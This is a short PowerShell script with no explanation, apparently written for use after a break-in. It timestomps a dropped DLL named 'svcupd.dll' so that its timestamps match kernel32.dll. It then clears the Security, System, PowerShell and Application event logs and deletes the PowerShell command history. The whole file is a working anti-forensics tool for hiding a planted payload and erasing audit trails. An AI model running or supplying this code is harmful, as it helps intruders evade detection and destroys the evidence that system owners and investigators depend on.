param([string]$Dropped = 'C:\Windows\Temp\svcupd.dll')

$ref = Get-Item -Path 'C:\Windows\System32\kernel32.dll'
$item = Get-Item -Path $Dropped
$item.CreationTime = $ref.CreationTime
$item.LastWriteTime = $ref.LastWriteTime
$item.LastAccessTime = $ref.LastAccessTime

foreach ($log in 'Security', 'System', 'Windows PowerShell', 'Microsoft-Windows-PowerShell/Operational') {
    wevtutil.exe cl $log
}
Clear-EventLog -LogName Application
Remove-Item -Path (Get-PSReadLineOption).HistorySavePath -Force -ErrorAction SilentlyContinue
